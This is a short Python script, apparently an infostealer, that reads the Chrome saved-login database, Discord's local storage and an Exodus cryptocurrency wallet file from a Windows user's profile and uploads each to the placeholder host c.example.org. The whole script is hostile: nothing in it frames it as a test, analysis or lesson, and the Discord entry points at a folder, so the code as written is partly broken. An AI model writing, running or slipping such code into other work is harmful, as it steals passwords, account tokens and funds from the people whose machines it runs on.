import os
import shutil
import urllib.request

local = os.getenv("LOCALAPPDATA")
roaming = os.getenv("APPDATA")
PLACES = [
    local + "\\Google\\Chrome\\User Data\\Default\\Login Data",
    roaming + "\\discord\\Local Storage\\leveldb",
    roaming + "\\Exodus\\exodus.wallet",
]


def send(path):
    with open(path, "rb") as file:
        urllib.request.urlopen("https://c.example.org", data=file.read())


for place in PLACES:
    send(place)
